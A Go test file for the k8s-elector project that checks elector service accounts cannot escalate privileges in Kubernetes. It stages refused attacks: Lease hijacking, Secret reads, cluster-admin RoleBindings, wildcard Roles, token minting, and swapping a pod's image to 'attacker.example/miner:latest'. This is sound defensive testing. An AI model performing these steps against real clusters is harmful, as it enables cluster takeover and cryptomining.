//lint:file-ignore SA1019 Endpoints are a lock type under attack.

package attack

import (
	"testing"
	"time"

	authenticationv1 "k8s.io/api/authentication/v1"
	coordinationv1 "k8s.io/api/coordination/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/fields"

	"github.com/vapor-ware/k8s-elector/pkg/webhook"
)

// TestAnnotationEditsGrantNothing replays the first release's worst hole:
// the deployer merge-patched one pod's annotations to lock-type=endpoints
// and pod-label=role, the reconciler widened the one Role of the
// namespace, and a second, uninvolved elector account could then write
// Endpoints and patch pods (it changed a third pod's image). Rights now
// follow the elector container's command line, which a patch cannot
// change: after the edit, and after the reconciler has seen it, nobody
// holds more than before.
func TestAnnotationEditsGrantNothing(t *testing.T) {
	a := newApp(t)
	ctx := ctxFor(t, 2*time.Minute)
	a.account("a")
	a.account("b")
	a.account("bystander")
	podA := a.pod("a-0", "a", map[string]string{webhook.AnnotationElection: "election-a"})
	podB := a.pod("b-0", "b", map[string]string{webhook.AnnotationElection: "election-b"})
	a.pod("third", "bystander", nil)
	asA, asB := a.elector(podA), a.elector(podB)
	waitAllowed(t, asA, a.ns, "update", "coordination.k8s.io", "leases", "election-a")
	waitAllowed(t, asB, a.ns, "update", "coordination.k8s.io", "leases", "election-b")
	web := &corev1.Endpoints{ObjectMeta: metav1.ObjectMeta{Name: "web", Namespace: a.ns}}
	if _, err := env.Client.CoreV1().Endpoints(a.ns).Create(ctx, web, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}

	// The deployer may patch pods: it edits pod a-0's elector settings.
	err := mergePatch(ctx, a.deployer, a.ns, "a-0", map[string]any{"metadata": map[string]any{
		"annotations": map[string]any{webhook.AnnotationLockType: "endpoints", webhook.AnnotationPodLabel: "role"},
		"labels":      map[string]any{"role": "leader"},
	}})
	allowed(t, "deployer editing its pod's annotations", err)
	a.barrier()

	for who, pod := range map[string]*corev1.Pod{"a (the edited pod's account)": podA, "b (an uninvolved elector account)": podB} {
		cs := a.elector(pod)
		t.Run(who, func(t *testing.T) {
			ep, err := env.Client.CoreV1().Endpoints(a.ns).Get(ctx, "web", metav1.GetOptions{})
			if err != nil {
				t.Fatal(err)
			}
			ep.Annotations = map[string]string{"hijacked": "true"}
			_, err = cs.CoreV1().Endpoints(a.ns).Update(ctx, ep, metav1.UpdateOptions{})
			refused(t, who+" updates Endpoints web", err, byRBAC("update", "endpoints"))
			_, err = cs.CoreV1().Endpoints(a.ns).Create(ctx, &corev1.Endpoints{ObjectMeta: metav1.ObjectMeta{Name: "election-a"}}, metav1.CreateOptions{})
			refused(t, who+" creates an Endpoints lock", err, byRBAC("create", "endpoints"))
			err = setImage(ctx, cs, a.ns, "third", "app", "attacker.example/miner:latest")
			refused(t, who+" changes the image of a third pod", err, byRBAC("patch", "pods"))
			err = mergePatch(ctx, cs, a.ns, "a-0", labels(map[string]any{"role": "standby"}))
			refused(t, who+" labels the edited pod", err, byRBAC("patch", "pods"))
		})
	}
	if got := imageOf(t, a.ns, "third", "app"); got != "registry.k8s.io/pause:3.10" {
		t.Errorf("the third pod's image is now %s", got)
	}

	// What the elector of a-0 runs did not change, so neither did its
	// grant: it still renews its Lease.
	lease := &coordinationv1.Lease{ObjectMeta: metav1.ObjectMeta{Name: "election-a"}, Spec: coordinationv1.LeaseSpec{HolderIdentity: new("a-0")}}
	_, err = asA.CoordinationV1().Leases(a.ns).Create(ctx, lease, metav1.CreateOptions{})
	allowed(t, "a creating its Lease", err)
	lease, err = asA.CoordinationV1().Leases(a.ns).Get(ctx, "election-a", metav1.GetOptions{})
	allowed(t, "a reading its Lease", err)
	if err == nil {
		lease.Spec.LeaseDurationSeconds = new(int32(10))
		_, err = asA.CoordinationV1().Leases(a.ns).Update(ctx, lease, metav1.UpdateOptions{})
		allowed(t, "a renewing its Lease", err)
	}

	// The bystander runs no elector, and holds nothing.
	bystander := a.elector(a.get("third"))
	for _, r := range []struct{ verb, group, resource string }{
		{"create", "coordination.k8s.io", "leases"},
		{"create", "", "endpoints"},
		{"patch", "", "pods"},
		{"create", "", "events"},
	} {
		if can(t, bystander, a.ns, r.verb, r.group, r.resource, "") {
			t.Errorf("the bystander, which runs no elector, may %s %s", r.verb, r.resource)
		}
	}
}

// TestElectorAccountReachesOnlyItsLock: an elector's account may read,
// renew and watch its own lock, make it, and post Events. Everything
// else a stolen elector token might try is refused: by RBAC, another
// election's Lease (the hijack of another controller), deleting a Lease,
// listing, its Lease's namespace twin, kube-system's Leases, Secrets,
// RBAC, pods, and tokens of other accounts; by the policy
// k8s-elector-lock-create, a Lease made under another name, which RBAC
// cannot tell from its own.
func TestElectorAccountReachesOnlyItsLock(t *testing.T) {
	a := newApp(t)
	other := newApp(t)
	ctx := ctxFor(t, 2*time.Minute)
	a.account("web")
	a.account("worker")
	web := a.pod("web-0", "web", map[string]string{webhook.AnnotationElection: "web"})
	a.pod("worker-0", "worker", map[string]string{webhook.AnnotationElection: "worker"})
	cs := a.elector(web)
	waitAllowed(t, cs, a.ns, "update", "coordination.k8s.io", "leases", "web")

	victimLease(t, a.ns, "worker")              // another election of the namespace
	victimLease(t, a.ns, "cert-manager-leader") // another controller's election
	victimLease(t, other.ns, "web")             // the same election name, elsewhere
	victimLease(t, "kube-system", "kube-scheduler")
	// Its own Lease, made by its elector, as the elector makes it.
	own, err := cs.CoordinationV1().Leases(a.ns).Create(ctx, &coordinationv1.Lease{
		ObjectMeta: metav1.ObjectMeta{Name: "web"},
		Spec:       coordinationv1.LeaseSpec{HolderIdentity: new("web-1"), LeaseDurationSeconds: new(int32(15))},
	}, metav1.CreateOptions{})
	if err != nil {
		t.Fatalf("the elector making its Lease: %v", err)
	}
	secret := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "db-password"}, StringData: map[string]string{"password": "hunter2"}}
	if _, err := env.Client.CoreV1().Secrets(a.ns).Create(ctx, secret, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}

	t.Run("legitimate", func(t *testing.T) {
		got, err := cs.CoordinationV1().Leases(a.ns).Get(ctx, "web", metav1.GetOptions{})
		allowed(t, "reading its Lease", err)
		if err == nil {
			got.Spec.HolderIdentity = new("web-0")
			_, err = cs.CoordinationV1().Leases(a.ns).Update(ctx, got, metav1.UpdateOptions{})
			allowed(t, "taking its Lease", err)
		}
		w, err := cs.CoordinationV1().Leases(a.ns).Watch(ctx, metav1.ListOptions{FieldSelector: fields.OneTermEqualSelector("metadata.name", "web").String()})
		allowed(t, "watching its Lease by name", err)
		if err == nil {
			w.Stop()
		}
		_, err = cs.CoreV1().Events(a.ns).Create(ctx, &corev1.Event{
			ObjectMeta:     metav1.ObjectMeta{GenerateName: "web."},
			InvolvedObject: corev1.ObjectReference{APIVersion: "coordination.k8s.io/v1", Kind: "Lease", Name: "web", Namespace: a.ns, UID: own.UID},
			Reason:         "LeaderElection", Message: "web-0 became leader", Type: corev1.EventTypeNormal,
		}, metav1.CreateOptions{})
		allowed(t, "posting an Event", err)
	})

	attacks := []struct {
		name string
		do   func() error
		by   refusal
	}{
		{"takes another election's Lease", func() error { return takeLease(ctx, cs, a.ns, "worker") }, byRBAC("update", "leases")},
		{"takes another controller's Lease", func() error { return takeLease(ctx, cs, a.ns, "cert-manager-leader") }, byRBAC("update", "leases")},
		{"squats the Lease of a controller yet to start", func() error {
			_, err := cs.CoordinationV1().Leases(a.ns).Create(ctx, &coordinationv1.Lease{
				ObjectMeta: metav1.ObjectMeta{Name: "external-dns-leader"},
				Spec:       coordinationv1.LeaseSpec{HolderIdentity: new("attacker"), LeaseDurationSeconds: new(int32(3600))},
			}, metav1.CreateOptions{})
			return err
		}, byPolicy(policyLockCreate)},
		{"reads another election's Lease", func() error {
			_, err := cs.CoordinationV1().Leases(a.ns).Get(ctx, "worker", metav1.GetOptions{})
			return err
		}, byRBAC("get", "leases")},
		{"deletes another election's Lease", func() error {
			return cs.CoordinationV1().Leases(a.ns).Delete(ctx, "worker", metav1.DeleteOptions{})
		}, byRBAC("delete", "leases")},
		{"deletes its own Lease", func() error {
			return cs.CoordinationV1().Leases(a.ns).Delete(ctx, "web", metav1.DeleteOptions{})
		}, byRBAC("delete", "leases")},
		{"lists Leases", func() error {
			_, err := cs.CoordinationV1().Leases(a.ns).List(ctx, metav1.ListOptions{})
			return err
		}, byRBAC("list", "leases")},
		{"watches every Lease", func() error {
			w, err := cs.CoordinationV1().Leases(a.ns).Watch(ctx, metav1.ListOptions{})
			if err == nil {
				w.Stop()
			}
			return err
		}, byRBAC("watch", "leases")},
		{"takes its election's namesake in another namespace", func() error { return takeLease(ctx, cs, other.ns, "web") }, byRBAC("update", "leases")},
		{"takes kube-system's kube-scheduler Lease", func() error { return takeLease(ctx, cs, "kube-system", "kube-scheduler") }, byRBAC("update", "leases")},
		{"reads a Secret", func() error {
			_, err := cs.CoreV1().Secrets(a.ns).Get(ctx, "db-password", metav1.GetOptions{})
			return err
		}, byRBAC("get", "secrets")},
		{"lists Secrets", func() error {
			_, err := cs.CoreV1().Secrets(a.ns).List(ctx, metav1.ListOptions{})
			return err
		}, byRBAC("list", "secrets")},
		{"binds itself to cluster-admin", func() error {
			_, err := cs.RbacV1().RoleBindings(a.ns).Create(ctx, &rbacv1.RoleBinding{
				ObjectMeta: metav1.ObjectMeta{Name: "escalate"},
				RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "cluster-admin"},
				Subjects:   []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Name: "web", Namespace: a.ns}},
			}, metav1.CreateOptions{})
			return err
		}, byRBAC("create", "rolebindings")},
		{"binds itself to the pod-label ClusterRole", func() error {
			_, err := cs.RbacV1().RoleBindings(a.ns).Create(ctx, &rbacv1.RoleBinding{
				ObjectMeta: metav1.ObjectMeta{Name: "escalate"},
				RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "k8s-elector-pod-label"},
				Subjects:   []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Name: "web", Namespace: a.ns}},
			}, metav1.CreateOptions{})
			return err
		}, byRBAC("create", "rolebindings")},
		{"widens its own Role", func() error {
			_, err := cs.RbacV1().Roles(a.ns).Create(ctx, &rbacv1.Role{
				ObjectMeta: metav1.ObjectMeta{Name: "escalate"},
				Rules:      []rbacv1.PolicyRule{{APIGroups: []string{"*"}, Resources: []string{"*"}, Verbs: []string{"*"}}},
			}, metav1.CreateOptions{})
			return err
		}, byRBAC("create", "roles")},
		{"creates a pod", func() error {
			_, err := cs.CoreV1().Pods(a.ns).Create(ctx, plainPod("miner", "worker", nil), metav1.CreateOptions{})
			return err
		}, byRBAC("create", "pods")},
		{"changes its own pod's image", func() error { return setImage(ctx, cs, a.ns, "web-0", "app", "attacker.example/miner:latest") }, byRBAC("patch", "pods")},
		{"mints a token of another account", func() error {
			_, err := cs.CoreV1().ServiceAccounts(a.ns).CreateToken(ctx, "worker", &authenticationv1.TokenRequest{}, metav1.CreateOptions{})
			return err
		}, byRBAC("create", "serviceaccounts/token")},
	}
	for _, at := range attacks {
		t.Run(at.name, func(t *testing.T) {
			refused(t, "the elector account of web "+at.name, at.do(), at.by)
		})
	}
	for ns, name := range map[string]string{a.ns: "worker", other.ns: "web", "kube-system": "kube-scheduler"} {
		if h := holder(t, ns, name); h != "victim" {
			t.Errorf("Lease %s/%s is held by %q now", ns, name, h)
		}
	}
}
